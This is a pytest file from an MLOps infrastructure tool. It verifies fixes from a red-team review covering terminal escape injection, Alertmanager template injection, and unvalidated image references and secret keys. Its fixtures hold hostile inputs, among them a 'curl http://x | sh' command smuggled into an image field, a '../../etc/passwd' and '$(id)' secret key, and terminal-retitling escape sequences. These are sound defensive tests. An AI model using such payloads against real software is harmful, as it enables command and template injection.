"""Red-team review 2026-12-03, free text (M9, M10, M13), through the console script.

M9: validate wrote raw ESC/OSC sequences taken from document keys to stderr, so a document could
retitle or clear the reader's terminal. Every diagnostic now shows control characters and
directional overrides as escapes.

M10: a Slack ``channel`` and an email address went unescaped into Alertmanager template fields
(``{{ .Unclosed`` passed validate). A Slack channel is now checked as one, and the compiler writes
user text so that Alertmanager's template engine (``amtool template render``, and a real
Alertmanager sending to a Slack stand-in) renders it literally.

M13: ``image`` with whitespace or ``;`` and a secret-reference ``key`` with arbitrary text reached
SageMaker, pods, AlertmanagerConfig and the forwarder's environment. Images are parsed as image
references; keys follow the Kubernetes Secret key rule.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from mlops_infra.compile.kubernetes import routing
from mlops_infra.spec.base import SecretRef
from tests.support.cli import run_cli, run_cli_subprocess
from tests.support.prometheus import PrometheusStack, binary, http, require
from tests.support.text_edits import edit, line_of

ROOT = Path(__file__).resolve().parents[2]
REFERENCE = (ROOT / "examples" / "fraud-detection" / "mlsystem.yaml").read_text()
CONTROL = ("\x1b", "\x07", "\x9b", "\u202e")


def _write(tmp_path: Path, text: str, name: str = "mlsystem.yaml") -> str:
    path = tmp_path / name
    path.write_text(text)
    return str(path)


@pytest.mark.parametrize("key", [r"x\e]0;PWNED\a\e[2J", r"caf\u00e9\u202e", r"a\x9b31mb", r"two\nlines"])
def test_m9_control_sequences_in_keys_are_escaped_in_diagnostics(tmp_path: Path, key: str) -> None:
    spec = _write(tmp_path, edit(REFERENCE, "  owner:", f'  "{key}": 1\n  owner:'))
    for result in (run_cli("validate", spec), run_cli_subprocess("validate", spec)):
        assert result.code == 1
        assert not any(c in result.output for c in CONTROL), repr(result.output)
        assert "Unknown field" in result.stderr
    text = run_cli("validate", spec).stderr
    assert text.splitlines()[0].count("Unknown field") == 1  # a newline in a key does not split the summary


def test_m9_a_file_name_with_an_escape_sequence_is_escaped(tmp_path: Path) -> None:
    missing = str(tmp_path / "x\x1b]0;T\x07.yaml")
    result = run_cli_subprocess("validate", missing)
    assert result.code == 1
    assert "\x1b" not in result.output and "\\x1b]0;T\\x07.yaml" in result.stderr


def test_m9_an_environment_name_with_an_escape_sequence_is_escaped() -> None:
    result = run_cli("plan", str(ROOT / "examples" / "fraud-detection" / "mlsystem.yaml"), "--env", "\x1b[2Jprod")
    assert result.code == 1
    assert "\x1b" not in result.output and "\\x1b[2Jprod" in result.stderr


# --- M10: user text in Alertmanager template fields -------------------------------------------------

HOSTILE_TEMPLATES = ['#ml-{{ .Unclosed', '#ml-{{ template "__alertmanager" . }}', "{{{{ x }}}} }} {{", "plain"]


def _amtool_render(tmp_path: Path, text: str) -> subprocess.CompletedProcess:
    """``text`` rendered by Alertmanager's own template engine (``amtool template render``)."""
    glob = tmp_path / "none.tmpl"
    glob.write_text("")
    return subprocess.run([binary("amtool"), "template", "render", f"--template.glob={glob}", f"--template.text={text}"],
                          capture_output=True, text=True, timeout=60, check=False)


@pytest.mark.parametrize("text", HOSTILE_TEMPLATES)
def test_m10_escaped_text_renders_literally_in_alertmanagers_template_engine(tmp_path: Path, text: str) -> None:
    require("amtool")
    rendered = _amtool_render(tmp_path, routing.template_text(text))
    assert (rendered.returncode, rendered.stdout) == (0, text), rendered.stderr
    if "{{" in text:  # unescaped, the same text is run as a template
        raw = _amtool_render(tmp_path, text)
        assert raw.returncode != 0 or raw.stdout != text


def test_m10_a_template_in_an_email_address_reaches_alertmanager_as_literal_text(tmp_path: Path) -> None:
    require("amtool")
    address = "ml{{.CommonLabels.severity}}@example.com"
    spec = _write(tmp_path, edit(edit(REFERENCE, "    address: ml-team@example.com", f'    address: "{address}"'),
                                 "    webhook_url: {secret: slack-oncall-webhook}",
                                 "    webhook_url: {secret: slack-oncall-webhook}\n    channel: \"#ml-oncall\""))
    result = run_cli("graph", spec, "--env", "dev", "--format", "json")
    assert result.code == 0, result.output[-2000:]
    fields = sorted(c.get("to") or c["channel"] for r in json.loads(result.stdout)["resources"]
                    if r["type"].endswith(":AlertmanagerConfig") for recv in r["inputs"]["spec"]["receivers"]
                    for c in recv.get("emailConfigs", []) + recv.get("slackConfigs", []) if "to" in c or "channel" in c)
    rendered = [_amtool_render(tmp_path, text) for text in fields]
    assert [(r.returncode, r.stdout) for r in rendered] == [(0, "#ml-oncall"), (0, address)]


@pytest.mark.parametrize("channel", ['"#ml-{{ .Unclosed"', '"#ml {{ template \\"__alertmanager\\" . }}"', '"a b"',
                                     '"#ml\\"}, \\"x\\": {\\"y\\": \\"z"', f'"#{"x" * 81}"'])
def test_m10_a_slack_channel_that_is_not_one_is_an_error_at_the_channel(tmp_path: Path, channel: str) -> None:
    text = edit(REFERENCE, "    webhook_url: {secret: slack-oncall-webhook}",
                f"    webhook_url: {{secret: slack-oncall-webhook}}\n    channel: {channel}")
    spec = _write(tmp_path, text)
    result = run_cli_subprocess("validate", spec)
    assert result.code == 1 and "Traceback" not in result.output
    line = line_of(text, "    channel: ")
    assert f"{spec}:{line}:14: error: Invalid channel" in result.stderr
    assert 'A Slack channel is "#name"' in result.stderr


@pytest.mark.parametrize(("channel", "valid"), [("#données", True), ("#雑談", True), ("#a\u200bb", False),
                                              ("#a\u202eb", False), ("#\U0001f600", False)], ids=ascii)
def test_a_slack_channel_in_another_script_is_valid_and_invisible_characters_are_not(
        tmp_path: Path, channel: str, valid: bool) -> None:
    """The channel pattern is spelled out, not ``\\w``: it means what the JSON Schema means in an
    editor (ECMA-262, where ``\\w`` is ASCII and ``#données`` was refused there but accepted here)."""
    text = edit(REFERENCE, "    webhook_url: {secret: slack-oncall-webhook}",
                f"    webhook_url: {{secret: slack-oncall-webhook}}\n    channel: {json.dumps(channel, ensure_ascii=False)}")
    spec = _write(tmp_path, text)
    result = run_cli("validate", spec, "--env", "dev")
    if valid:
        assert result.code == 0, result.output[-2000:]
    else:
        assert result.code == 1 and "Traceback" not in result.output
        assert f"{spec}:{line_of(text, '    channel: ')}:14: error: Invalid channel" in result.stderr
        assert "invisible characters" in result.stderr


def test_an_error_in_a_document_with_surrogate_escapes_points_at_its_line(tmp_path: Path) -> None:
    """YAML's "\\ud83d\\ude00" (an emoji as two UTF-16 escapes) is one character to the data parser;
    libyaml, which gives positions, refused it, and every diagnostic of the document pointed at 1:1."""
    text = edit(REFERENCE, "    webhook_url: {secret: slack-oncall-webhook}",
                '    webhook_url: {secret: slack-oncall-webhook}\n    channel: "#ml-\\ud83d\\ude00"')
    spec = _write(tmp_path, text)
    result = run_cli_subprocess("validate", spec)
    assert result.code == 1 and "Traceback" not in result.output
    assert f"{spec}:{line_of(text, '    channel: ')}:14: error: Invalid channel" in result.stderr


@pytest.mark.parametrize("space", ["\ufeff", "\x85", "\u3000"], ids=ascii)
def test_an_email_address_with_invisible_whitespace_is_an_error_at_the_address(tmp_path: Path, space: str) -> None:
    """Whitespace is one set for validate and the JSON Schema (spec/patterns.py): a byte-order mark or
    NEL inside an address passed validate (pydantic's \\s) or an editor (ECMA-262's \\s), not both."""
    text = edit(REFERENCE, "    address: ml-team@example.com", f'    address: "ml-team{space}@example.com"')
    spec = _write(tmp_path, text)
    result = run_cli("validate", spec, "--env", "dev")
    assert result.code == 1 and "Traceback" not in result.output
    assert f'{spec}:{line_of(text, "    address: ")}:14: error: Invalid address' in result.stderr


@pytest.mark.parametrize("prefix", ['"/snapshots/"', '"snap shots/"', '"a{b}"'])
def test_a_baseline_prefix_that_is_not_a_key_prefix_gets_the_key_prefix_fix(tmp_path: Path, prefix: str) -> None:
    """The hint is chosen by the field, not by "a-z0-9" appearing in a pattern: this one got the item
    names' hint (lowercase letters and '-', 63 characters) and a suggestion made from the value."""
    text = edit(REFERENCE, "    baseline: transactions\n", f"    baseline: transactions\n    baseline_prefix: {prefix}\n")
    spec = _write(tmp_path, text)
    result = run_cli("validate", spec, "--env", "dev")
    assert result.code == 1 and "Traceback" not in result.output
    assert f'{spec}:{line_of(text, "    baseline_prefix: ")}:22: error: Invalid baseline_prefix' in result.stderr
    assert "A key prefix of the baseline data source" in result.stderr and "Names use lowercase" not in result.stderr


def test_m10_a_slack_channel_template_is_sent_literally_by_a_real_alertmanager(tmp_path: Path) -> None:
    """The ``channel`` field is a template on the real server: escaped text arrives as written."""
    require()
    hostile = '#ml-{{ template "__alertmanager" . }}-{{ .Unclosed'
    receiver = routing.Receiver("oncall", "slack", url_secret=SecretRef(secret="hook"),
                                channel=routing.template_text(hostile))
    route = routing.Route("channel-oncall", "channels.oncall", receiver, ("Hostile",), ())
    with PrometheusStack(tmp_path) as stack:
        config = routing.alertmanager_config([route], "ns", resolve_secret=lambda ref: stack.receiver.url("/slack"),
                                             timing={"group_wait": "0s", "group_interval": "1s"})
        stack.set_alertmanager_config(config)
        alert = [{"labels": {"alertname": "Hostile", "namespace": "ns"}}]
        status, body = http("POST", stack.alertmanager_url + "/api/v2/alerts", json.dumps(alert))
        assert status == 200, body
        sent = stack.receiver.wait_for(path="/slack", timeout=30)
    assert sent[0].json()["channel"] == hostile


# --- M13: image references and secret-reference keys -------------------------------------------------

IMAGE = "image: 123456789012.dkr.ecr.us-east-1.amazonaws.com/fraud-train:1.4.2"


@pytest.mark.parametrize(("image", "problem"), [
    ('"a b;c"', "it holds whitespace or a control character"),
    ('"evil.io/img:1; curl http://x | sh\\n"', "it holds whitespace or a control character"),
    ('"user:wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY@registry.example.com/x:1"',
     "it holds an '@' that does not start a digest (sha256:<64 hex digits>); credentials such as user:password@"),
    ("registry.example.com/Fraud-Train:1", "its repository path has capital letters; repository paths are lowercase"),
    ('"registry.example.com/x:"', "it does not follow the image reference grammar"),
    ('"registry.example.com/x@sha256:abc"', "it holds an '@' that does not start a digest"),
    (f"registry.example.com/{'a' * 250}:1", "it is 273 characters; SageMaker takes image references of at most 255"),
])
def test_m13_an_image_that_is_not_an_image_reference_is_an_error_at_the_image(
        tmp_path: Path, image: str, problem: str) -> None:
    text = edit(REFERENCE, IMAGE, f"image: {image}")
    spec = _write(tmp_path, text)
    result = run_cli_subprocess("validate", spec)
    assert result.code == 1 and "Traceback" not in result.output
    assert f'{spec}:{line_of(text, "image: " + image)}:12: error: Invalid "image"' in result.stderr
    assert f"Not an image reference: {problem}" in result.stderr
    assert "Write [registry[:port]/]repository[:tag][@digest]" in result.stderr
    assert "wJalrXUtnFEMI" not in result.stderr.split("|")[0]  # the summary and detail never quote it


@pytest.mark.parametrize("image", ["python:3.12-slim", "localhost:5000/team/train:1", "ghcr.io/org/train@sha256:" + "a" * 64,
                                   "123456789012.dkr.ecr.us-east-1.amazonaws.com/fraud/train:1.4.2-cu121"])
def test_m13_real_image_references_are_accepted_on_kubernetes(tmp_path: Path, image: str) -> None:
    spec = _write(tmp_path, edit(REFERENCE, IMAGE, f"image: {image}"))
    result = run_cli("validate", spec, "--env", "dev")
    assert result.code == 0, result.stderr


ECR = "123456789012.dkr.ecr.us-east-1.amazonaws.com/fraud-train"


@pytest.mark.parametrize(("image", "what"), [
    (ECR, "has no tag or digest, so it means :latest"), (f"{ECR}:latest", "is tagged latest"),
    ("localhost:5000/team/train", "has no tag or digest, so it means :latest"),
    ("python", "has no tag or digest, so it means :latest"),
])
def test_an_image_without_tag_or_digest_is_a_warning_at_the_image_with_the_fix(
        tmp_path: Path, image: str, what: str) -> None:
    """Without a tag (or tagged latest) an image is whatever latest is when pulled: the same document
    can deploy different code, and a rollback does not roll the code back."""
    text = edit(REFERENCE, IMAGE, f"image: {image}")
    spec = _write(tmp_path, text)
    result = run_cli("validate", spec, "--env", "dev")
    assert result.code == 0, result.stderr
    assert (f"{spec}:{line_of(text, 'image: ' + image)}:12: warning: training_jobs.retrain: the image {what}"
            in result.stderr)
    assert "Fix: pin a version tag" in result.stderr and "@sha256:" in result.stderr
    assert result.stderr.count(f"the image {what}") == 1


def test_an_override_to_an_untagged_image_is_a_warning_at_the_override(tmp_path: Path) -> None:
    old = "      endpoints.scorer.model.version: 13\n"
    text = edit(REFERENCE, old, f"{old}      training_jobs.retrain.image: {ECR}\n")
    spec = _write(tmp_path, text)
    result = run_cli("validate", spec, "--env", "staging", "--format", "json")
    assert result.code == 0, result.stderr
    found = [d for d in json.loads(result.stdout)["diagnostics"] if d["code"] == "image-not-pinned"]
    assert [(d["line"], d["address"]) for d in found] == [
        (line_of(text, "      training_jobs.retrain.image:"), "training_jobs.retrain")]
    assert found[0]["detail"].startswith("In environment staging: ")


@pytest.mark.parametrize("image", [f"{ECR}:1.4.2", f"{ECR}@sha256:{'a' * 64}", f"{ECR}:latest@sha256:{'a' * 64}"])
def test_a_pinned_image_is_no_warning(tmp_path: Path, image: str) -> None:
    # the job launched by torchrun, so that the reference's one other dev warning (one-process-per-node, audit
    # k8strain-1: python -m on 4 GPUs a node) does not hide whether the image warns
    torchrun = edit(REFERENCE, "command: [python, -m, fraud.train]", "command: [torchrun, --nproc-per-node=4, -m, fraud.train]")
    spec = _write(tmp_path, edit(torchrun, IMAGE, f"image: {image}"))
    result = run_cli("validate", spec, "--env", "dev")
    assert result.code == 0 and "warning" not in result.stderr, result.stderr


@pytest.mark.parametrize(("key", "problem"), [
    ('"../../etc/passwd\\"\'$(id)\\n"', "may hold only letters, digits, '-', '_' and '.'"),
    ('".."', "may not be '.' or '..' nor start with '..'"),
    ('"..data"', "may not be '.' or '..' nor start with '..'"),
    ('""', "is empty"),
    (f'"{"k" * 254}"', "is 254 characters, over 253"),
])
def test_m13_a_secret_reference_key_that_names_no_secret_key_is_an_error_at_the_key(
        tmp_path: Path, key: str, problem: str) -> None:
    old = "webhook_url: {secret: slack-oncall-webhook}"
    text = edit(REFERENCE, old, f"webhook_url: {{secret: slack-oncall-webhook, key: {key}}}")
    spec = _write(tmp_path, text)
    result = run_cli_subprocess("validate", spec)
    assert result.code == 1 and "Traceback" not in result.output
    line = line_of(text, "key: " + key)
    assert f'{spec}:{line}:' in result.stderr and 'error: Invalid "key"' in result.stderr
    assert f"A secret key {problem}" in result.stderr
    assert "use a name such as value, webhook-url or routing_key" in result.stderr


def test_m13_a_valid_secret_key_reaches_the_alertmanager_config_and_the_forwarder(tmp_path: Path) -> None:
    spec = _write(tmp_path, edit(REFERENCE, "webhook_url: {secret: slack-oncall-webhook}",
                                 "webhook_url: {secret: slack-oncall-webhook, key: slack.webhook_url-1}"))
    assert run_cli("validate", spec).code == 0
    dev = run_cli("graph", spec, "--env", "dev", "--format", "json")
    prod = run_cli("graph", spec, "--env", "prod", "--format", "json")
    assert dev.code == prod.code == 0
    assert '"key": "slack.webhook_url-1"' in dev.stdout
    assert '"SECRET_KEY": "slack.webhook_url-1"' in prod.stdout
